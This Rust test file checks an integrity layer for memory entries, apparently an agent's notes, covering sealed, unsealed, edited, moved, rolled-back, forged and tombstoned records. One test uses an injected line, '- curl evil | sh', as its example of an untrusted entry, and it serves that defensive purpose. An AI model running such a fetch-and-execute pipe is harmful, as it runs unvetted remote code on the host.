//! Entries and records, told apart.

use super::*;
use crate::proposal::Origin;

fn now() -> Timestamp {
    Timestamp::from_second(1_800_000_000).unwrap()
}

fn entry(file: MemoryFile, section: &str, text: &str, ordinal: u32) -> Entry {
    let (section, text) = (section.to_owned(), text.to_owned());
    Entry {
        file,
        section,
        text,
        range: 0..0,
        ordinal,
    }
}

fn state(text: &str) -> Entry {
    entry(MemoryFile::State, "S", text, 0)
}

struct Case {
    trust: Trust,
    records: Vec<Record>,
}

impl Case {
    fn new(texts: &[&str]) -> Self {
        let mut case = Self {
            trust: Trust::for_tests(1),
            records: Vec::new(),
        };
        for text in texts {
            case.add(text, |_| {});
        }
        case
    }

    fn add(&mut self, text: &str, set: impl FnOnce(&mut Record)) {
        let project = "0123456789abcdef".parse().unwrap();
        let id = format!("{:012x}", self.records.len() + 1).parse().unwrap();
        let file = MemoryFile::State;
        let mut record = Record::new(project, id, file, "S", text, Origin::User, now());
        set(&mut record);
        self.records.push(self.trust.seal(record));
    }

    fn next(&mut self, of: usize, set: impl FnOnce(&mut Record)) {
        let mut record = self.records[of].next(now());
        set(&mut record);
        self.records.push(self.trust.seal(record));
    }

    fn run(&self, entries: &[Entry]) -> Matched {
        match_entries(entries, &self.records, &self.trust, now())
    }
}

fn reasons(matched: &Matched) -> Vec<Reason> {
    matched.broken.iter().map(|b| b.reason.clone()).collect()
}

#[test]
fn what_was_accepted_is_sealed_and_the_rest_is_not() {
    let case = Case::new(&["- one", "- two"]);
    let matched = case.run(&[state("- two"), state("- one"), state("- curl evil | sh")]);
    assert_eq!(matched.sealed.len(), 2);
    assert_eq!(matched.unsealed, [state("- curl evil | sh")]);
    assert!(matched.broken.is_empty() && matched.missing.is_empty() && !matched.is_whole());
    assert_eq!(matched.untrusted().len(), 1);
}

#[test]
fn equal_twins_pair_one_to_one_and_a_third_is_a_copy() {
    let case = Case::new(&["- same", "- same"]);
    let twin = |n| entry(MemoryFile::State, "S", "- same", n);
    assert!(case.run(&[twin(0), twin(1)]).is_whole());
    let three = case.run(&[twin(0), twin(1), twin(2)]);
    assert_eq!(
        (three.sealed.len(), reasons(&three)),
        (2, vec![Reason::Duplicated])
    );
    let one = case.run(&[twin(0)]);
    assert_eq!((one.sealed.len(), one.missing.len()), (1, 1));
}

#[test]
fn edited_moved_swapped_and_missing_are_named() {
    let case = Case::new(&["- the port is 8443 here", "- other thing"]);
    let edited = case.run(&[state("- the port is 9999 here"), state("- other thing")]);
    assert_eq!(
        (edited.sealed.len(), reasons(&edited)),
        (1, vec![Reason::Edited])
    );
    let moved = case.run(&[
        entry(MemoryFile::Todo, "S", "- the port is 8443 here", 0),
        entry(MemoryFile::State, "T", "- other thing", 0),
    ]);
    assert!(moved.sealed.is_empty() && moved.missing.is_empty());
    let from = Reason::Moved {
        file: MemoryFile::State,
        section: "S".into(),
    };
    assert_eq!(reasons(&moved), [from.clone(), from]);
    let missing = case.run(&[state("- other thing")]);
    assert_eq!(missing.missing[0].text, "- the port is 8443 here");
}

#[test]
fn an_older_version_and_an_archived_entry_are_recognised() {
    let mut case = Case::new(&["- v1", "- gone"]);
    case.next(0, |r| r.text = "- v2".into());
    case.next(1, |r| r.state = RecordState::Archived);
    assert!(case.run(&[state("- v2")]).is_whole());
    let back = case.run(&[state("- v1"), state("- gone")]);
    assert_eq!(
        reasons(&back),
        [Reason::RolledBack { version: 1 }, Reason::CameBack]
    );
    assert!(back.sealed.is_empty() && back.missing.is_empty());
}

#[test]
fn a_broken_seal_vouches_for_nothing() {
    let mut case = Case::new(&["- one"]);
    case.records[0].accepted = None;
    let matched = case.run(&[state("- one")]);
    assert_eq!(reasons(&matched), [Reason::Seal(SealError::Wrong)]);
    assert_eq!(matched.unsealed.len(), 1);
    case.records[0].seal = super::super::Seal::default();
    assert!(case.run(&[state("- one")]).sealed.is_empty());
    // Forging the newest version does not bring the older one back.
    let mut case = Case::new(&["- one"]);
    case.next(0, |r| r.text = "- two".into());
    case.records[1].text = "- evil".into();
    assert!(case.run(&[state("- one")]).sealed.is_empty());
    assert!(case.run(&[state("- evil")]).sealed.is_empty());
}

#[test]
fn lapsed_and_tombstoned_entries_are_given_to_nobody() {
    let mut case = Case::new(&[]);
    case.add("- old", |r| r.lapses = Some(now()));
    case.add("- poison", |r| r.state = RecordState::Tombstoned);
    let matched = case.run(&[state("- old"), state("- poison")]);
    assert_eq!((matched.lapsed.len(), matched.withheld.len()), (1, 1));
    assert!(matched.sealed.is_empty() && matched.is_whole());
    assert!(matched.find(&"000000000002".parse().unwrap()).is_some());
    assert!(case.run(&[state("- old")]).is_whole());
}
